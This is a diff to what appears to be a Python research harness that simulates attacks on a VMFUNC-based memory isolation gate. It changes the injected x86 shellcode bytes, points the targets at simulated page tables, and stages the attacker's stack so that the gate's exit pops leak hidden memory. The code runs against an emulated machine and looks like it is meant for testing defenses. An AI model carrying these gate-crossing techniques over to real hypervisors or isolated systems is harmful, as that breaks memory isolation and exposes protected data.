@@ -323,7 +323,7 @@ def land(machine, physical, offset, registers, generator, segment=CODE_64, root=
     machine.stack(*[hostile(machine, generator) if i % 3 == 2 else BACK for i in range(24)])
     if at_gate:
         code = swap + b"\xff\x25\0\0\0\0" + u64(virtual + offset - 3)
-        look = b"\x50\x48\xa1" + u64(virtual) + b"\x58" if warm else b""  # push %rax; movabs (page), %rax; pop
+        look = b"\xa0" + u64(virtual) + b"\x31\xc0" if warm else b""  # movabs (page), %al; xor %eax, %eax
         machine.code(look + code, at(offset - 3, VMFUNC)[:PAGE])
         return machine.run(ATTACK + LAUNCHER * PAGE, values, cr3=root, seconds=300, rsp=rsp)
     both = at(PAGE + offset - len(into + swap) - 3, into + swap + VMFUNC)
@@ -379,12 +379,17 @@ def a27(machine):
 
 def read_through_the_gate(machine):
     """For the control of A4 and A27: the way out's pops, with the attacker's tables, his stack on hidden memory that he knows."""
-    target = next(s for s in machine.hidden if s["name"].startswith("core r--"))
+    target = machine.segments["SIM page tables"]
     root = machine.own_tables()
     machine.attack_page(0x20, target["gpa"] | PRESENT | WRITE)
     pops = machine.pristine.index(b"\x5f\x5e\x5a\x41\x5a", machine.inner_offset) - machine.inner_offset
-    return land(machine, machine.g1 + PAGE, pops, {"rcx": root, "rax": STACK}, seeded("control"), root=root, at_gate=True,
-                rsp=ATTACK + 0x20 * PAGE)
+    # rax is 0 and rcx 1 after VMFUNC: the way out takes 0 for the stack, and 1 for a CR3. Both are the attacker's page 0.
+    machine.ram[0:PAGE] = machine.ram[root:root + PAGE]
+    machine.put(16, 2, BACK)                            # of the stack: flags, and where ret goes
+    words = struct.unpack_from("<480Q", machine.pristine, target["offset"])
+    first = next(i for i, word in enumerate(words) if word)
+    return land(machine, machine.g1 + PAGE, pops, {}, seeded("control"), root=root, at_gate=True,
+                rsp=ATTACK + 0x20 * PAGE + first * 8)
 
 
 # ---- A24: guesses ------------------------------------------------------------------------------------------------
@@ -438,7 +443,7 @@ def second_entry(machine):
     Jumps to the exit VMFUNC with ecx = 1, and lets what follows pop hidden memory, then leaves through the entry VMFUNC into a page of
     his own.
     """
-    target = next(s for s in machine.hidden if s["name"].startswith("core r--"))
+    target = machine.segments["SIM page tables"]
     page = machine.pristine[machine.layout["segments"][1]["offset"]:][:PAGE]
     exit_at = page.index(VMFUNC)
     root = machine.own_tables()
